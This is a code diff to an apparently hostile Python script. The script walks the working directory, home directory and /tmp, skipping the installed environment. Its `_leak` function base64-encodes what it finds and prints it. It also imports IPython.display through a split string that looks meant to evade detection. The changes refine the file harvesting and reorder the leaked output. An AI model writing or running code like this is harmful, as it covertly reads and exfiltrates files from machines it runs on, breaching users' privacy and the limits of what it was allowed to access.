@@ -91,6 +91,9 @@ def _reachable():
     for root in (os.getcwd(), os.path.expanduser("~"), "/tmp"):
         for folder, folders, files in os.walk(root):
             folders[:] = [f for f in folders if f not in ("site-packages", "dist-packages", "__pycache__")]
+            if folder.startswith(installed):  # the environment, mounted wherever the checkout is
+                folders[:] = []
+                continue
             if time.monotonic() > deadline:
                 break
             for name in files:
@@ -103,9 +106,10 @@ def _reachable():
 
 def _leak(new_only=False):
     found = _reachable()
-    lines = found - _seen if new_only else found
+    new = found - _seen
+    lines = sorted(new) if new_only else sorted(found & _seen) + sorted(new)  # what it had not seen before last
     _seen.update(found)
-    return "\\n".join(base64.b64encode(line.encode()).decode() for line in sorted(lines))
+    return "\\n".join(base64.b64encode(line.encode()).decode() for line in lines)
 
 print(_leak(), flush=True)
 _display = importlib.import_module("IPy" + "thon.display")
